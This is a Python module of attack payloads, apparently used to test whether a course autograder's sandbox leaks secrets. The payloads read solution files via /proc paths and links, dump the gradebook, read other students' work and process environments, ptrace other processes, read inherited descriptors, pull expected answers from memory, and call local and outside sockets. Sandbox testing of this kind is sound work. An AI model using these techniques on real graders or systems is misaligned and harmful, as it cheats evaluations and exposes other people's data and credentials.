"""Attacks that look for secrets: solutions, gradebook, classmates, environment, memory, the network."""

from __future__ import annotations

from . import PLACES, Attack

# The places are known to the attack: an insider has told them.
_HEAD = f"places = {PLACES}\nimport contextlib, glob, os, sys\n"
_EVERY_FILE = """
def show(path):
    with contextlib.suppress(OSError), open(path, "rb") as file:
        print(path, file.read(100_000))
"""

ATTACKS = (
    Attack(
        "solutions read",
        "the solution is opened by its path, by a path through /proc, and through links",
        _HEAD
        + _EVERY_FILE
        + """
path = places["solution"]
for way in ("", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../../..", "/newroot", "/oldroot"):
    show(way + path)
with contextlib.suppress(OSError):
    os.symlink(path, "link")
show("link")
with contextlib.suppress(OSError):
    os.link(path, "hard")
show("hard")
""",
    ),
    Attack(
        "gradebook read",
        "the gradebook is opened with sqlite, and every file called like it is looked for",
        _HEAD
        + _EVERY_FILE
        + """
import sqlite3
with contextlib.suppress(sqlite3.Error):
    print(list(sqlite3.connect(f"file:{places['gradebook']}?mode=ro", uri=True).iterdump()))
for folder, _, names in os.walk(os.path.dirname(places["gradebook"])):
    for name in names:
        show(os.path.join(folder, name))
""",
    ),
    Attack(
        "classmates read",
        "the other submissions are looked for, beside this one and below /tmp",
        _HEAD
        + _EVERY_FILE
        + """
for path in [places["classmate"], *glob.glob("../**/*.ipynb", recursive=True)[:50], *glob.glob("/tmp/**/*")]:
    show(path)
print(os.listdir("/tmp"), os.listdir("/dev/shm"))
""",
    ),
    Attack(
        "environment read",
        "environment variables of this process and of those above it are read",
        _HEAD
        + _EVERY_FILE
        + """
import ctypes
print(dict(os.environ))
for number in ("self", *range(1, 30)):
    show(f"/proc/{number}/environ"); show(f"/proc/{number}/cmdline")
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for n in range(200):
    if not environ or not environ[n]:
        break
    print(environ[n])
""",
    ),
    Attack(
        "memory of other processes",
        "the memory of all processes is read with /proc/PID/mem, ptrace and process_vm_readv",
        _HEAD
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in [*range(1, 60), os.getppid()]:
    if number == os.getpid():
        continue
    if libc.ptrace(16, number, None, None) == 0:
        print("SECRET-LEAKED: traced", number) if number == 1 else libc.ptrace(17, number, None, None)
    with contextlib.suppress(OSError), open(f"/proc/{number}/mem", "rb") as file:
        print("SECRET-LEAKED: memory", number)
""",
        ruins=True,
    ),
    Attack(
        "open files",
        "everything that can be read is read from every descriptor that was inherited",
        _HEAD
        + """
for number in range(3, 256):
    with contextlib.suppress(OSError):
        os.set_blocking(number, False)
        for read in (lambda: os.pread(number, 1000, 0), lambda: os.read(number, 1000)):
            with contextlib.suppress(OSError):
                print(number, read())
    with contextlib.suppress(OSError):
        for name in os.listdir(number):
            print(name)
    with contextlib.suppress(OSError):
        print(os.open(places["solution"], os.O_RDONLY, dir_fd=number))
""",
        ruins=True,
    ),
    Attack(
        "expected values in the modules",
        "right values of the exercises by hand are looked for in modules, constants, files and byte code",
        _HEAD
        + """
import gc, types
for item in gc.get_objects():
    if type(item).__name__ in ("ValueExercise", "Exercise", "Mistake", "Remembering"):
        held = {key: value for key, value in vars(item).items() if key in ("expected", "also", "reference", "mistakes")}
        if held:
            print("SECRET-LEAKED: ", held)
import course_utils
root = os.path.dirname(course_utils.__file__)
for path in glob.glob(root + "/exercises/**", recursive=True):
    if os.path.isfile(path):
        print("SECRET-LEAKED:", path)
""",
    ),
    Attack(
        "network",
        "a server on the machine, one on the internet, abstract sockets and vsock are called",
        _HEAD
        + """
import socket
calls = [
    (socket.AF_INET, ("127.0.0.1", int(places["port"]))), (socket.AF_INET, ("192.0.2.1", 80)),
    (socket.AF_UNIX, "\\0" + places["abstract"]), (socket.AF_UNIX, places["socket"]),
]
for family, address in calls:
    with contextlib.suppress(OSError), socket.socket(family) as caller:
        caller.settimeout(0.3)
        caller.connect(address)
        caller.sendall(b"my answers")
        print("SECRET-LEAKED: connected to", address)
print(socket.if_nameindex())
""",
    ),
)
